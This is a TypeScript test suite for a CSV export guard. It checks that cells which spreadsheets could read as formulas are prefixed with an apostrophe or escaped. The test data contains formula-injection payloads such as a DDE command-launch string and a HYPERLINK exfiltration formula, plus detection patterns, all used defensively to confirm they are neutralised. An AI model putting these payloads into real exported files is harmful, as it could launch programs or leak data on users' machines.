import { parse } from 'csv-parse/sync';
import fc from 'fast-check';
import { expect, it } from 'vitest';
import type { CsvFormat } from '../../../../shared/request.ts';
import { csv } from './csv-tests.ts';
import { bytesOf, fileOf, pageOf, scan } from './pages.ts';
import type { Make } from './suite.ts';

const DELIMITERS = [',', ';', '\t', '|'] as const;
/** What a spreadsheet may take for the beginning of a formula, after what it may drop. */
const SIGN = /^[\s\p{Cc}\p{Cf}"]*[=＝﹦+＋﹢\-－﹣@＠﹫]/u;
const NUMBER = /^ *[+-](\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?\s*$/;
/** What a formula needs to call a function or another program, or to reach another sheet or file. */
const CALLS = /[(!|[\]{}<>^~=\\`（）｜！]/;

/** Text out of what matters here, in any order, and anything else. */
const anyText = fc
  .array(
    fc.oneof(
      fc.constantFrom(
        '=',
        '+',
        '-',
        '@',
        '＝',
        '＋',
        '－',
        '＠',
        '﹣',
        "'",
        '"',
        '""',
        ' ',
        '\u3000',
        '\u00a0',
        '\ufeff',
        '\u200b',
        '\0',
      ),
      fc.constantFrom(
        ',',
        ';',
        '\t',
        '|',
        '\r',
        '\n',
        '\r\n',
        ', ',
        '-5',
        '1e3',
        'cmd',
        '(A1)',
        "|' /C calc'!A0",
        '\\',
        '\\u003d',
        'é',
        '한',
        '😀',
      ),
      fc.string({ unit: 'binary', maxLength: 4 }),
    ),
    { maxLength: 8 },
  )
  .map((pieces) => pieces.join(''));
const anyValue = fc.oneof(
  { weight: 3, arbitrary: anyText },
  fc.oneof(fc.integer(), fc.double({ noNaN: true, noDefaultInfinity: true }), fc.constantFrom(null, true)),
  fc.array(anyText, { maxLength: 3 }),
);
const anyRow = fc.record({ a: anyValue, b: anyValue, c: anyValue, x: anyText });
const anyOptions = fc.record({
  delimiter: fc.constantFrom(...DELIMITERS),
  rest: fc.boolean(),
  join: fc.constantFrom(undefined, '; ', ', ', ' | ', ' '),
});

const encodable = (text: string) => text.replace(/\p{Surrogate}/gu, '\ufffd');
/** Away with what the guard adds to a text. */
const unguarded = (text: string) => text.replaceAll("'", '');

export function guardTests(make: Make): void {
  const read = (columns: string[], source: string, options: Partial<CsvFormat> = {}) => {
    const format = make(csv(columns, { guard: true, ...options }));
    const file = fileOf(format, scan(format, bytesOf(pageOf([{ source, seqNo: 1 }]))).all);
    const records: string[][] = parse(file, { delimiter: options.delimiter ?? ',' });
    return { file, head: records[0] ?? [], cells: records[1] ?? [] };
  };
  const cell = (json: string, options: Partial<CsvFormat> = {}) => read(['a'], `{"a":${json}}`, options).cells[0];
  const textCell = (text: string, options: Partial<CsvFormat> = {}) => cell(JSON.stringify(text), options);

  it.each([
    ...['=1+1', '+1+1', '-1+1', '@SUM(A1)', '-x', '+', '-5-3', '-.', '-1e', '--5', '=-5'],
    ...['＝1+1', '＋1', '－1', '＠x', '﹦1', '﹢1', '﹣1', '﹫x'],
    ...['\t=1', '\r=1', '\n=1', '\r\n=1', '\tx', '\rx', '\nx', '\n-5', '\t5'],
    ...[
      ' =1',
      '\u3000=1',
      '\u00a0=1',
      '\ufeff=1',
      '\u200b=1',
      '\u0890=1',
      '\u{e0020}=1',
      '\0=1',
      '  \n =1',
      '"=1',
      '""=1+1',
      ' "＝1',
    ],
    ...["=cmd|' /C calc'!A0", '=HYPERLINK("http://x/"&A1)', '=1+2";=1+2'],
  ])('puts an apostrophe before %j', (text) => {
    for (const delimiter of DELIMITERS) expect(textCell(text, { delimiter })?.slice(0, 2)).toBe(`'${text[0]}`);
  });

  it.each([
    ...['-5', '+3.2e1', '-.5', '+7.', '-1E-9', ' -5', '-5 ', '-0', '+12345678901234567890'],
    ...['a=1', "'=1", 'a-b', '2001-02-03', 'x@example.org', 'a + b', '', '1;-5;7', '한국-1', '-', 'é=mc²'].filter(
      (t) => t !== '-',
    ),
    ...['first, -5 degrees', 'list:\n- one\n- two, and 3\n', 'thanks, @ann', 'a,b', 'line\nline'],
  ])('leaves %j as it is', (text) => {
    for (const delimiter of DELIMITERS) expect(textCell(text, { delimiter })).toBe(text);
  });

  it.each([
    ['x;=1+1;y', "x;'=1+1;y"],
    ['x,=cmd()', "x,'=cmd()"],
    ['x|@SUM(A1)', "x|'@SUM(A1)"],
    ['x\t=1', "x\t'=1"],
    ['x\n=1', "x\n'=1"],
    ['x\r\n=1', "x\r\n'=1"],
    ['x; "=1"', 'x;\' "=1"'],
    ['x;－A1!B2', "x;'－A1!B2"],
    ['x;-a+', "x;'-a+"],
    ["x;-cmd|' /C calc'!A0", "x;'-cmd|' /C calc'!A0"],
    ['a,-b;=c', "a,'-b;'=c"],
  ])('guards what would begin a cell with another delimiter: %j', (text, guarded) => {
    for (const delimiter of DELIMITERS) expect(textCell(text, { delimiter })).toBe(guarded);
  });

  it('quotes each text, which a program with another delimiter keeps together where it can, and no number', () => {
    const { file } = read(['a', 'b', 'c', 'd', 'e'], '{"a":"x","b":-5,"c":"","d":null,"e":[1,2]}');
    expect(file).toBe('"a","b","c","d","e"\r\n"x",-5,"",,"[1,2]"\r\n');
  });

  it.each(['-5', '-5e3', '-0', '5.0', '9223372036854775807', 'true'])('leaves the value %s as it is stored', (json) => {
    expect(read(['a'], `{"a":${json}}`).file).toBe(`"a"\r\n${json}\r\n`);
  });

  it('guards the names of columns, which are data', () => {
    const names = ['=cmd', '-5', '+x', '@y', '＝z', '\ttab', 'a;=b()', 'plain'];
    const guarded = ["'=cmd", '-5', "'+x", "'@y", "'＝z", "'\ttab", "a;'=b()", 'plain'];
    for (const delimiter of DELIMITERS) expect(read(names, '{}', { delimiter }).head).toEqual(guarded);
    expect(read(names, '{}', { rest: true }).head).toEqual([...guarded, '_rest']);
  });

  it('writes signs in JSON as escapes, so that it means the same', () => {
    const values = [
      '["=1"]',
      '["-5","- x",-5]',
      '[ "a;=1+1;b" , {"=k":"＝v"} ]',
      '["\\"=1","\\u003d1","x,@y()"]',
      '[" =1"]',
    ];
    for (const json of values) {
      const text = cell(json) ?? '';
      expect(JSON.parse(text)).toEqual(JSON.parse(json));
      for (const piece of text.split(/[,;|]/)) expect(piece.replace(/^[[{]+/, '')).not.toMatch(/^[\s"]*[=@＝]/);
    }
    expect(cell('["=1"]')).toBe('["\\u003d1"]');
    expect(cell('["-5","a-b",-5]')).toBe('["\\u002d5","a-b",-5]');
    const { cells } = read([], '{"=k":"=v","n":{"@m":[" ＝w"]}}', { rest: true });
    expect(cells[0]).toBe('{"\\u003dk":"\\u003dv","n.@m":[" \\uff1dw"]}');
  });

  it('guards arrays that are joined, and dates', () => {
    expect(cell('["=1",2]', { join: '; ' })).toBe("'=1; 2");
    expect(cell('[2,"=1"]', { join: '; ' })).toBe("2;' =1");
    expect(cell('["\\n","=1"]', { join: ' ' })).toBe("'\n' =1");
    expect(cell('[-5]', { join: '; ' })).toBe('-5');
    expect(cell('[-5,-6]', { join: ', ' })).toBe("'-5, -6");
    expect(cell('["2001-02-11","=1"]', { dates: { zone: 'UTC', columns: ['a'] } })).toMatch(
      /^\["2001-.*","\\u003d1"\]$/,
    );
  });

  it('keeps all of a text but for the apostrophes', () => {
    fc.assert(
      fc.property(anyText, fc.constantFrom(...DELIMITERS), (text, delimiter) => {
        expect(unguarded(textCell(text, { delimiter }) ?? '')).toBe(unguarded(encodable(text)));
      }),
      { numRuns: 500 },
    );
  });

  it('lets no cell begin with a sign but a number, whatever is stored', () => {
    fc.assert(
      fc.property(anyRow, anyOptions, anyText, ({ x, ...row }, { join, ...options }, name) => {
        const columns = ['a', 'b', 'c', name];
        const source = JSON.stringify({ ...row, [`x${name}`]: x });
        const { head, cells } = read(columns, source, { ...options, ...(join === undefined ? {} : { join }) });
        for (const text of [...head, ...cells]) if (!NUMBER.test(text)) expect(text).not.toMatch(SIGN);
        if (row.a !== null && typeof row.a !== 'object') expect(cells[0] !== '').toBe(row.a !== '');
      }),
      { numRuns: 500 },
    );
  });

  it('lets no text call anything where it is cut at another delimiter', () => {
    fc.assert(
      fc.property(anyRow, anyOptions, ({ x, ...row }, { join, ...options }) => {
        const { cells } = read(['a', 'b', 'c'], JSON.stringify({ ...row, x }), { ...options, ...(join && { join }) });
        const isJson = [row.a, row.b, row.c].map((value) => Array.isArray(value) && join === undefined);
        cells.forEach((text, i) => {
          for (const piece of DELIMITERS.flatMap((delimiter) => text.split(delimiter)).flatMap((s) =>
            s.split(/[\r\n]/),
          )) {
            if (!SIGN.test(piece)) continue;
            expect(piece).not.toMatch(CALLS);
            expect(isJson[i] ?? true).toBe(false);
          }
        });
      }),
      { numRuns: 1000 },
    );
  });

  it('takes a text of many megabytes', () => {
    const long = 'x'.repeat(3_000_000);
    for (const text of [
      `${' '.repeat(9_000_000)}=1`,
      `=${long}\n${long}`,
      `-${'1'.repeat(3_000_000)}x`,
      `(${',-'.repeat(1_500_000)}`,
    ]) {
      const found = textCell(text);
      expect(unguarded(found ?? '') === text).toBe(true);
      expect((found ?? '').length).toBeGreaterThan(text.length);
    }
  });
}
